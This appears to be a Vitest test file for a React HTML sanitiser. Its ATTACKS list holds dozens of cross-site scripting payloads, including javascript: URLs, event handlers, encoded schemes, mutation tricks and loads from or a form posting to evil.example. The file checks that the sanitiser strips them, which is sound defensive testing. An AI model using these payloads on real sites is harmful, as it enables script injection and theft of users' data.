// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { Prose } from './Prose.tsx'
import { decodeOnce, sanitise } from './sanitise.ts'

afterEach(cleanup)
// jsdom has no layout, so nothing overflows.
vi.stubGlobal(
  'ResizeObserver',
  class {
    observe() {}
    disconnect() {}
  },
)

const shown = (html: string, encoded = false) => {
  const prose = render(<Prose html={html} encoded={encoded} tableLabel="Table" />).container.firstElementChild
  if (!prose) throw new Error('Nothing was drawn')
  return prose
}

/** Attacks from OWASP's cheat sheet, DOMPurify and html5sec, one of each kind. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=x style="behavior:url(x)" srcset="x 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1) style="position:fixed" target=_top ping="//evil.example" id=location>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=otp><button formaction="javascript:alert(1)">Pay</button></form>',
  '<button onclick=alert(1)>x</button>',
  '<isindex action="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '</body><body onpageshow=alert(1)><p>x</p>',
  '<html onclick=alert(1)><p>x</p>',
  '<base href="javascript:/a/-alert(1)/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(javascript:alert(1))" class="header">x</div>',
  '<p style="position:fixed;inset:0" class="overlay" id="content" name="forms" data-x=1 slot=y is=z>x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" onclick=alert(1)>x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<p><!--><img src=x onerror=alert(1)>--></p>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<custom-element onclick=alert(1)><p>x</p></custom-element>',
  '<constructor>x</constructor><__proto__>x</__proto__><tostring>x</tostring>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<ol start="javascript:1" type="x"><li value=-1>x</li></ol>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<map name=x><area href="javascript:alert(1)"></map>',
  '<portal src="javascript:alert(1)"></portal>',
  '<q cite="javascript:alert(1)">x</q><ins cite="javascript:alert(1)">x</ins>',
]

const ATTRIBUTES = new Set([
  'href',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'colspan',
  'rowspan',
  'scope',
  'start',
  'value',
  'title',
  'datetime',
  'lang',
  'dir',
  'class',
])
const FORBIDDEN =
  'script, style, iframe, object, embed, form, input, button, textarea, select, svg, math, link, meta, base, template, video, audio, noscript, applet, portal'

function expectHarmless(prose: Element) {
  expect(prose.querySelector(FORBIDDEN)).toBeNull()
  for (const element of prose.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES).toContain(name)
      // The only class is the scrolling box of tables.
      if (name === 'class') expect(element.firstElementChild?.localName).toBe('table')
      if (name === 'href') expect(new URL(value, 'https://shop.example/').protocol).toMatch(/^(https?|mailto|tel):$/)
      if (name === 'src') expect(new URL(value, 'https://shop.example/').protocol).toMatch(/^https?:$/)
    }
  }
}

test.each(ATTACKS)('renders nothing harmful: %s', { tags: ['@C-067'] }, (attack) => {
  const complaint = vi.spyOn(console, 'error')
  expectHarmless(shown(attack))
  expectHarmless(shown(`<p>before ${attack} after</p>`))
  expectHarmless(shown(`<table><tr><td>${attack}</td></tr></table>`))
  expectHarmless(shown(attack.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'), true))
  expect(complaint).not.toHaveBeenCalled()
  complaint.mockRestore()
})

test('keeps the elements of a story', () => {
  const story =
    '<h2>Light</h2><p>It is <strong>short</strong> and <em>low</em>.<br>See <a href="/set/boat-jetty">the jetty</a>.</p>' +
    '<ul><li>One</li><li>Two</li></ul><blockquote><p>Wait.</p></blockquote>' +
    '<figure><img src="/art/a.svg" alt="A field" loading="lazy" decoding="async"><figcaption>Six o’clock</figcaption></figure>'
  expect(shown(story).innerHTML).toBe(
    story.replace(
      '<img src="/art/a.svg" alt="A field" loading="lazy" decoding="async">',
      '<img alt="A field" loading="lazy" decoding="async" src="/art/a.svg">',
    ),
  )
})

test('keeps tables with spans and headers', () => {
  const prose = shown(
    '<table><caption>Days</caption>\n<tr>\n<th scope="COL" colspan="2">Day</th></tr><tr><td rowspan="999">x</td></tr></table>',
  )
  expect(prose.querySelector('th')?.getAttribute('scope')).toBe('col')
  expect(prose.querySelector('th')?.getAttribute('colspan')).toBe('2')
  expect(prose.querySelector('td')?.hasAttribute('rowspan')).toBe(false)
  expect(prose.querySelector('caption')?.textContent).toBe('Days')
})

test('starts headings at level 2', () => {
  expect(shown('<h1>One</h1><h3>Three</h3><h6>Six</h6>').innerHTML).toBe('<h2>One</h2><h3>Three</h3><h4>Six</h4>')
})

test('keeps the text of unknown elements', () => {
  expect(shown('<section><font color=red>Bring</font> <span style="x">water</span></section>').innerHTML).toBe(
    'Bring water',
  )
})

test('keeps http, https, mailto, tel and relative links and unwraps others', () => {
  const addresses = [
    '/blog/x',
    'x?y=1#z',
    '//cdn.example/a',
    'http://a.example',
    'https://a.example',
    'mailto:a@b.example',
    'tel:+910000000000',
  ]
  for (const address of addresses)
    expect(shown(`<a href="${address}">x</a>`).querySelector('a')?.getAttribute('href')).toBe(address)
  for (const address of ['ftp://a.example', 'sms:1', 'intent:x', 'http://[', '', ' '])
    expect(shown(`<a href="${address}">words</a>`).innerHTML).toBe('words')
})

test('sends other sites no referrer', () => {
  expect(shown('<a href="https://a.example">x</a>').querySelector('a')?.rel).toBe('noopener noreferrer')
  expect(shown('<a href="\\\\a.example">x</a>').querySelector('a')?.rel).toBe('noopener noreferrer')
  expect(shown('<a href="/blog">x</a>').querySelector('a')?.hasAttribute('rel')).toBe(false)
})

test('decodes one layer of encoding', { tags: ['@C-067'] }, () => {
  expect(decodeOnce('&lt;p&gt;Tea &amp;amp; toast &#8377;20 &#x20B9;30&lt;/p&gt;')).toBe(
    '<p>Tea &amp; toast ₹20 ₹30</p>',
  )
  expect(shown('&lt;p&gt;&amp;lt;b&amp;gt; is a tag&lt;/p&gt;', true).innerHTML).toBe('<p>&lt;b&gt; is a tag</p>')
  expect(decodeOnce('Tom & Jerry &unknown; &;')).toBe('Tom & Jerry &unknown; &;')
})

test('shows encoded HTML as text without `encoded`', () => {
  expect(shown('&lt;b&gt;').textContent).toBe('<b>')
})

test('handles a thousand nested elements', () => {
  const tree = sanitise(`${'<b>'.repeat(1000)}deep`)
  expect(JSON.stringify(tree).length).toBeLessThan(5000)
})

test('renders nothing for empty HTML', () => {
  expect(shown('').innerHTML).toBe('')
  expect(shown('   <!-- a comment -->').textContent?.trim()).toBe('')
})
